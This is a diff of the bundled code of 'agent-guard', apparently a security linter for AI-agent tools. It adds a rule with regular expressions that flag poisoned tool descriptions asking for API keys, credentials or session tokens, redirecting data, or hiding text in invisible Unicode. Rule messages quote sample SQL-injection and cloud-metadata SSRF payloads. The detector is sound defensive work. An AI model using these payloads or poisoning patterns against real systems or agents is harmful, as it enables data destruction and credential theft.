+var SECRETS = /\b(?:read|include|pass|send|provide|share|reveal|extract|collect|copy|append|attach|leak|forward|output|print|dump|exfiltrate)\b[^.\n]{0,40}?\b(?:all|any|every|the\s+user'?s|user'?s|their|other|system|environment)\b[^.\n]{0,30}?\b(?:api[\s_-]?keys?|secrets?|credentials?|passwords?|private[\s_-]?keys?|ssh[\s_-]?keys?|access[\s_-]?tokens?|auth(?:entication)?[\s_-]?tokens?|session[\s_-]?(?:tokens?|cookies?)|env(?:ironment)?[\s_-]?var(?:iable)?s)\b/i;
+var OTHER_TOOLS = [
+  /\b(?:when|if|whenever|while)\s+this\s+tool\s+is\s+(?:available|present|loaded|enabled|installed)\b/i,
+  /\b(?:read|include|pass|send|forward|copy|append|extract|leak|collect)\b[^.\n]{0,40}?\b(?:other|another|all\s+other|previous|every)\s+tools?(?:'s|')?\s+(?:outputs?|results?|responses?|data|arguments?|parameters?|inputs?|credentials?|tokens?|descriptions?)\b/i
+];
+var REDIRECT = /\b(?:must|should|always)\s+(?:also\s+)?(?:send|forward|bcc|cc|redirect|copy|post)\b[^.\n]{0,60}?\b(?:to)\b[^.\n]{0,40}?(?:[\w.+-]+@[\w-]+\.[\w.]+|https?:\/\/\S+)/i;
+var INVISIBLE = /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/g;
+function snippet2(s) {
+  const one = s.replace(/\s+/g, " ").trim();
+  return one.length > 60 ? `${one.slice(0, 57)}...` : one;
+}
+function poisonSigns(text) {
+  const out2 = [];
+  const tags = /* @__PURE__ */ new Set();
+  for (const m of text.matchAll(TAG)) tags.add(m[0].replace(/\s+/g, "").replace("</", "<").toUpperCase());
+  for (const t of tags) out2.push({ kind: "hidden-tag", text: `hidden-instruction tag ${t}` });
+  for (const re of CONCEAL) {
+    const m = re.exec(text);
+    if (m) {
+      out2.push({ kind: "conceal", text: `an instruction to keep something from the user ("${snippet2(m[0])}")` });
+      break;
+    }
   }
-};
-var codeInjection = {
-  meta: meta5,
+  for (const re of OVERRIDE) {
+    const m = re.exec(text);
+    if (m) {
+      out2.push({ kind: "override", text: `an instruction to override the model's instructions ("${snippet2(m[0])}")` });
+      break;
+    }
+  }
+  const files = /* @__PURE__ */ new Set();
+  for (const sentence of text.split(/(?<=[.!?])\s+|\n+/)) {
+    if (!IMPERATIVE.test(sentence)) continue;
+    const strong = STRONG_FILE.exec(sentence);
+    if (strong) files.add(strong[1].trim());
+    const weak = WEAK_FILE.exec(sentence);
+    if (weak && PASS_ON.test(sentence)) files.add(weak[1].trim().replace(/^[('"`]/, ""));
+  }
+  if (files.size) out2.push({ kind: "sensitive-file", text: `a request to read ${[...files].join(", ")}` });
+  const secrets = SECRETS.exec(text);
+  if (secrets) out2.push({ kind: "secrets", text: `a request for secrets ("${snippet2(secrets[0])}")` });
+  for (const re of OTHER_TOOLS) {
+    const m = re.exec(text);
+    if (m) {
+      out2.push({ kind: "other-tools", text: `an instruction about other tools ("${snippet2(m[0])}")` });
+      break;
+    }
+  }
+  const redirect = REDIRECT.exec(text);
+  if (redirect) out2.push({ kind: "redirect", text: `an instruction to send data elsewhere ("${snippet2(redirect[0])}")` });
+  const invisible = [...new Set([...text.matchAll(INVISIBLE)].map((m) => m[0].codePointAt(0)))];
+  if (invisible.length) {
+    const tagChars = [...text].filter((c) => c.codePointAt(0) >= 917536 && c.codePointAt(0) <= 917630);
+    const hidden = tagChars.length ? `, hiding the text "${snippet2(tagChars.map((c) => String.fromCharCode(c.codePointAt(0) - 917504)).join(""))}"` : "";
+    const listed = invisible.filter((cp) => cp < 917504 || cp > 917631).map((cp) => `U+${cp.toString(16).toUpperCase().padStart(4, "0")}`);
+    const parts2 = [...new Set(listed)];
+    if (tagChars.length || invisible.some((cp) => cp >= 917504)) parts2.push("Unicode tag characters");
+    out2.push({ kind: "invisible-unicode", text: `invisible or bidirectional Unicode (${parts2.join(", ")})${hidden}` });
+  }
+  return out2;
+}
+var poisoned_description_default = defineRule({
+  ...definition,
   appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "code", meta5)
-};
+  async check(ctx) {
+    const seen = /* @__PURE__ */ new Set();
+    for (const handler of await toolsOfFile(ctx)) {
+      const texts = [];
+      if (handler.description) texts.push({ ...handler.description, where: "description" });
+      for (const t of handler.modelTexts ?? []) texts.push({ ...t, where: "schema text" });
+      for (const t of texts) {
+        const key = `${t.path}:${t.range.startLine}:${t.range.startColumn}:${t.range.endLine}:${t.range.endColumn}`;
+        if (seen.has(key)) continue;
+        seen.add(key);
+        const signs = poisonSigns(t.text);
+        if (!signs.length) continue;
+        ctx.report({
+          messageId: "poisoned",
+          data: { tool: handler.name, where: t.where, what: signs.map((s) => s.text).join("; ") },
+          range: t.range,
+          ...t.path !== ctx.file.path ? { path: t.path } : {},
+          fingerprintHint: `${handler.framework}:${handler.name}:${t.where}:${signs.map((s) => s.kind).join(",")}`
+        });
+      }
+    }
+  }
+});
 
 // src/families/tool-input/rules/sql-injection.ts
-var meta6 = {
+var sql_injection_default = defineSinkRule({
   id: "tool-input/sql-injection",
-  family: "tool-input",
+  sinkKind: "sql",
   severity: "error",
   description: "SQL text is built from a model-controlled tool argument (f-string, concatenation, %/format, template literal) and executed (cursor.execute, SQLAlchemy text, db.query/run/all, knex.raw, sequelize.query, prisma.$queryRawUnsafe).",
   fix: 'Pass the value as a bound parameter (execute("... WHERE id = ?", (x,)), query("... $1", [x]), sql`...` tagged templates) instead of building the SQL string.',
   messages: {
     flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x\' OR 1=1; DROP TABLE users; --" reads or destroys any data the connection can reach. Pass the value as a bound parameter (execute("... WHERE id = ?", (x,)), query("... $1", [x]), sql`...` tagged templates) instead of building the SQL string.'
-  }
-};
-var sqlInjection = {
-  meta: meta6,
-  appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "sql", meta6)
-};
+  },
+  cwe: [89],
+  securitySeverity: 8.8,
+  precision: "high"
+});
 
 // src/families/tool-input/rules/ssrf.ts
-var meta7 = {
+var ssrf_default = defineSinkRule({
   id: "tool-input/ssrf",
-  family: "tool-input",
+  sinkKind: "ssrf",
   severity: "error",
   description: "A model-controlled tool argument chooses the host of an outgoing HTTP request (requests, httpx, urllib, aiohttp, fetch, axios, got, undici, http.request).",
   fix: "Fix the scheme and host in code (a literal base URL) or check urlparse(url).hostname / new URL(url).hostname against an allowlist before the request.",
   messages: {
     flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "http://169.254.169.254/latest/meta-data/" makes the agent fetch internal services and cloud credentials. Fix the scheme and host in code (a literal base URL) or check urlparse(url).hostname / new URL(url).hostname against an allowlist before the request.'
-  }
-};
-var ssrf = {
-  meta: meta7,
-  appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "ssrf", meta7)
-};
+  },
+  cwe: [918],
+  securitySeverity: 9.1,
+  precision: "high"
+});
 
 // src/families/tool-input/rules/unsafe-deserialization.ts
-var meta8 = {
+var unsafe_deserialization_default = defineSinkRule({
   id: "tool-input/unsafe-deserialization",
-  family: "tool-input",
+  sinkKind: "deserialization",
   severity: "error",
   description: "Model-controlled data reaches an unsafe deserializer (pickle/cPickle/marshal/dill/joblib, yaml.load without SafeLoader, yaml.unsafe_load/full_load, jsonpickle.decode, shelve.open, node-serialize unserialize).",
   fix: "Use a data-only format: json.loads, yaml.safe_load, or a schema-validated parser; never unpickle data a model can supply.",
   messages: {
     flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile payload runs arbitrary code while it is being deserialized. Use a data-only format: json.loads, yaml.safe_load, or a schema-validated parser; never unpickle data a model can supply.'
-  }
-};
-var unsafeDeserialization = {
-  meta: meta8,
-  appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "deserialization", meta8)
-};
+  },
+  cwe: [502],
+  securitySeverity: 9.8,
+  precision: "high"
+});
 
 // src/families/tool-input/index.ts
-var toolInputRules = [rule, pathTraversal, commandInjection, argumentInjection, codeInjection, sqlInjection, ssrf, unsafeDeserialization];
+var sinkRules = [path_traversal_default, command_injection_default, argument_injection_default, code_injection_default, sql_injection_default, ssrf_default, unsafe_deserialization_default];
+var toolInputRules = [poisoned_description_default, ...sinkRules];
+var RULE_OF_KIND = new Map(sinkRules.map((r2) => [r2.sinkKind, r2.meta.id]));
+var analyseSinks = async (handler, project) => uniqueSortedSinks((await sinksOfHandler(handler, project)).map((s) => ({ ruleId: RULE_OF_KIND.get(s.kind), sink: s.sink, path: s.path, line: s.line })));
 
 // src/families/tool-payload/analyze.ts
 var import_picomatch3 = __toESM(require_picomatch2(), 1);
@@ -35138,13 +35150,13 @@ function checkRecord(x, opts) {
   const tools = /* @__PURE__ */ new Map();
   for (const d of x.decls) {
     if (!tools.has(d.name)) tools.set(d.name, d);
-    const rule2 = NAME_RULES[d.provider];
-    if (rule2 && !rule2.re.test(d.name)) {
+    const rule = NAME_RULES[d.provider];
+    if (rule && !rule.re.test(d.name)) {
       const loc2 = at(d.host, d.namePath);
       issues.push({
         rule: "invalid-tool-schema",
         messageId: "badName",
-        data: { where: where(label, loc2.path, loc2.inner), found: JSON.stringify(d.name), provider: rule2.label, expected: String(rule2.re) },
+        data: { where: where(label, loc2.path, loc2.inner), found: JSON.stringify(d.name), provider: rule.label, expected: String(rule.re) },
         path: loc2.path,
         hint: hintOf(d.host, d.namePath)
       });
@@ -37042,9 +37054,11 @@ var PAYLOAD_MESSAGES = {
 };
 
 // src/families/tool-payload/rules/shared.ts
-function payloadRule(name2, meta9) {
-  return {
-    meta: { id: `tool-payload/${name2}`, family: "tool-payload", messages: PAYLOAD_MESSAGES[name2], ...meta9 },
+function payloadRule(name2, definition2) {
+  return defineRule({
+    id: `tool-payload/${name2}`,
+    messages: PAYLOAD_MESSAGES[name2],
+    ...definition2,
     appliesTo: (file) => file.language === "json" || file.language === "jsonl",
     async check(ctx) {
       const issues = await ctx.memo("tool-payload:analysis", () => analyzeFile(ctx.file, ctx.project));
@@ -37059,53 +37073,71 @@ function payloadRule(name2, meta9) {
         });
       }
     }
-  };
+  });
 }
 
 // src/families/tool-payload/rules/invalid-arguments.ts
-var invalidArguments = payloadRule("invalid-arguments", {
+var invalid_arguments_default = payloadRule("invalid-arguments", {
   severity: "error",
   description: "A stored tool call's arguments do not parse, are double-encoded, or violate the declaring tool's JSON Schema (undeclared keys are a warning).",
-  fix: "Make the call's arguments a JSON object (encoded once, where the format wants a string) that satisfies the tool's parameters schema."
+  fix: "Make the call's arguments a JSON object (encoded once, where the format wants a string) that satisfies the tool's parameters schema.",
+  cwe: [20],
+  securitySeverity: 4,
+  precision: "very-high"
 });
 
 // src/families/tool-payload/rules/invalid-json.ts
-var invalidJson = payloadRule("invalid-json", {
+var invalid_json_default = payloadRule("invalid-json", {
   severity: "error",
   description: "A tool-payload file (fixture, dataset, trace, MCP tool list, or a file mapped in `payloads:`) is not valid JSON; in JSONL each line is checked on its own.",
-  fix: "Fix the JSON syntax at the reported position (JSON allows no comments, trailing commas or single quotes)."
+  fix: "Fix the JSON syntax at the reported position (JSON allows no comments, trailing commas or single quotes).",
+  cwe: [20],
+  securitySeverity: 3,
+  precision: "very-high"
 });
 
 // src/families/tool-payload/rules/invalid-tool-schema.ts
-var invalidToolSchema = payloadRule("invalid-tool-schema", {
+var invalid_tool_schema_default = payloadRule("invalid-tool-schema", {
   severity: "error",
   description: "A tool definition's schema is not a valid JSON Schema in its dialect (draft-07, 2020-12, Gemini's OpenAPI subset, BFCL), or its name breaks the provider's name rule.",
-  fix: "Use JSON Schema types (string, number, integer, boolean, object, array, null) and a name the provider accepts."
+  fix: "Use JSON Schema types (string, number, integer, boolean, object, array, null) and a name the provider accepts.",
+  cwe: [20],
+  securitySeverity: 3,
+  precision: "very-high"
 });
 
 // src/families/tool-payload/rules/schema-mismatch.ts
-var schemaMismatch = payloadRule("schema-mismatch", {
+var schema_mismatch_default = payloadRule("schema-mismatch", {
   severity: "error",
   description: "A file mapped by `payloads:` in `.agent-guard.yml` does not satisfy its project JSON Schema (in JSONL, each line must).",
-  fix: "Change the payload to satisfy the schema named in the `payloads:` mapping, or fix the schema."
+  fix: "Change the payload to satisfy the schema named in the `payloads:` mapping, or fix the schema.",
+  cwe: [20],
+  securitySeverity: 5,
+  precision: "very-high"
 });
 
 // src/families/tool-payload/rules/unknown-tool.ts
-var unknownTool = payloadRule("unknown-tool", {
+var unknown_tool_default = payloadRule("unknown-tool", {
   severity: "error",
   description: "A stored tool call names a tool that the record (or the file) does not declare.",
-  fix: "Call one of the declared tools, or declare the tool in the record that calls it."
+  fix: "Call one of the declared tools, or declare the tool in the record that calls it.",
+  cwe: [20],
+  securitySeverity: 3,
+  precision: "very-high"
 });
 
 // src/families/tool-payload/rules/unpaired-call.ts
-var unpairedCall = payloadRule("unpaired-call", {
+var unpaired_call_default = payloadRule("unpaired-call", {
   severity: "warning",
   description: "In a stored conversation, a tool call has no result although the conversation continues, a tool result answers no call, or two calls share an id.",
-  fix: "Add the missing tool result (or call), or give each call its own id and answer it with a result carrying that id."
+  fix: "Add the missing tool result (or call), or give each call its own id and answer it with a result carrying that id.",
+  cwe: [20],
+  securitySeverity: 2,
+  precision: "very-high"
 });
 
 // src/families/tool-payload/index.ts
-var toolPayloadRules = [invalidJson, invalidArguments, unknownTool, invalidToolSchema, unpairedCall, schemaMismatch];
+var toolPayloadRules = [invalid_json_default, invalid_arguments_default, unknown_tool_default, invalid_tool_schema_default, unpaired_call_default, schema_mismatch_default];
 
 // src/families/index.ts
 var ALL_RULES = [...secretRules, ...toolInputRules, ...rateLimitRules, ...toolPayloadRules];
@@ -37338,18 +37370,23 @@ function physicalLocation(loc2) {
     region: { startLine, startColumn, endLine, endColumn }
   };
 }
-function ruleDescriptor(meta9) {
+function ruleDescriptor(meta) {
   return {
-    id: meta9.id,
-    name: meta9.id.split("/")[1].replace(/(^|-)([a-z0-9])/g, (_, __, c) => c.toUpperCase()),
-    shortDescription: { text: meta9.description },
-    fullDescription: { text: `${meta9.description} Fix: ${meta9.fix}` },
-    helpUri: docsUrl(meta9.id),
-    help: { text: `${meta9.description}
-Fix: ${meta9.fix}
-Docs: ${docsUrl(meta9.id)}` },
-    defaultConfiguration: { level: LEVEL[meta9.severity] },
-    properties: { tags: ["security", meta9.family] }
+    id: meta.id,
+    name: meta.id.split("/")[1].replace(/(^|-)([a-z0-9])/g, (_, __, c) => c.toUpperCase()),
+    shortDescription: { text: meta.description },
+    fullDescription: { text: `${meta.description} Fix: ${meta.fix}` },
+    helpUri: meta.docs,
+    help: { text: `${meta.description}
+Fix: ${meta.fix}
+Docs: ${meta.docs}` },
+    defaultConfiguration: { level: LEVEL[meta.severity] },
+    // GitHub code scanning treats a result as a security alert, ranked Critical/High/Medium/Low, by security-severity.
+    properties: {
+      tags: ["security", meta.family, ...meta.cwe.map((n) => `external/cwe/cwe-${n}`)],
+      precision: meta.precision,
+      "security-severity": meta.securitySeverity.toFixed(1)
+    }
   };
 }
 function related(list2) {
@@ -38354,13 +38391,13 @@ function identityFunction() {
   };
 }
 function observed(rules2, observe) {
-  return rules2.map((rule2) => ({
-    meta: rule2.meta,
-    appliesTo: (file) => rule2.appliesTo(file),
-    check: (ctx) => rule2.check({
+  return rules2.map((rule) => ({
+    meta: rule.meta,
+    appliesTo: (file) => rule.appliesTo(file),
+    check: (ctx) => rule.check({
       ...ctx,
       report: (report3) => {
-        if (observe(rule2, ctx.file, report3)) ctx.report(report3);
+        if (observe(rule, ctx.file, report3)) ctx.report(report3);
       }
     })
   }));
@@ -38383,8 +38420,8 @@ async function scanHistory(options) {
     tree = await runRules(
       input2,
       config,
-      observed(rules3, (rule2, file, report3) => {
-        treeIdentities.add(identity(file, rule2.meta.id, report3));
+      observed(rules3, (rule, file, report3) => {
+        treeIdentities.add(identity(file, rule.meta.id, report3));
         return true;
       })
     );
@@ -38400,13 +38437,13 @@ async function scanHistory(options) {
     historyResult = await runRules(
       input,
       config,
-      observed(historyRules, (rule2, file, report3) => {
+      observed(historyRules, (rule, file, report3) => {
         const origin = input.originOf(file);
-        const severity = severities.get(rule2.meta.id);
+        const severity = severities.get(rule.meta.id);
         if (!origin || !severity) return false;
-        const finding = toFinding(rule2.meta, severity, file.path, report3, file.lineText(report3.range.startLine));
+        const finding = toFinding(rule.meta, severity, file.path, report3, file.lineText(report3.range.startLine));
         occurrences.push({
-          identity: identity(file, rule2.meta.id, report3),
+          identity: identity(file, rule.meta.id, report3),
           origin,
           finding,
           inline: finding.path === file.path && inlineSuppressionFor(file, finding) !== null,
@@ -38727,30 +38764,30 @@ ${HISTORY_USAGE}`,
 import { resolve as resolve11 } from "node:path";
 
 // src/app/tool-inventory.ts
-async function buildInventory(paths, configFile) {
+async function buildInventory(paths, configFile, sinkAnalyzer = analyseSinks) {
   const { root, config } = loadRootAndConfig(paths, ALL_RULES, configFile);
   const found = [];
-  const collector = {
-    meta: {
-      id: "tool-input/inventory",
-      family: "tool-input",
-      severity: "note",
-      description: "Lists tool handlers (internal to `agent-guard tools`).",
-      fix: "Nothing to fix.",
-      messages: {}
-    },
+  const collector = defineRule({
+    id: "tool-input/inventory",
+    severity: "note",
+    description: "Lists tool handlers (internal to `agent-guard tools`).",
+    fix: "Nothing to fix.",
+    messages: {},
+    cwe: [],
+    securitySeverity: 0,
+    precision: "very-high",
     appliesTo: mayRegisterTools,
     async check(ctx) {
-      for (const handler of await toolsOfFile(ctx)) found.push({ handler, sinks: await sinksReachedBy(handler, ctx.project) });
+      for (const handler of await toolsOfFile(ctx)) found.push({ handler, sinks: sinkAnalyzer ? await sinkAnalyzer(handler, ctx.project) : [] });
     }
-  };
+  });
   const input = workingTreeInput(root, paths, config);
   const secretIds = new Set(secretRules.map((r2) => r2.meta.id));
   const ruleSettings = Object.fromEntries(Object.entries(config.rules).filter(([id, setting]) => !(secretIds.has(id) && setting?.severity === "off")));
   const result = await runRules(input, { ...config, rules: ruleSettings }, [collector, ...secretRules]);
   const order = sortHandlers(found.map((f) => f.handler));
   const tools = order.map((h) => found.find((f) => f.handler === h)).map((entry) => ({ ...entry, handler: masked(entry.handler) }));
-  return { root: result.root, tools, sinkAnalysis: hasSinkAnalyzer(), files: result.stats.files, excluded: result.stats.excluded ?? 0, skipped: result.skipped, errors: result.ruleErrors };
+  return { root: result.root, tools, sinkAnalysis: sinkAnalyzer !== null, files: result.stats.files, excluded: result.stats.excluded ?? 0, skipped: result.skipped, errors: result.ruleErrors };
 }
 function masked(h) {
   const redact = (s) => globalRedactor.redact(s);
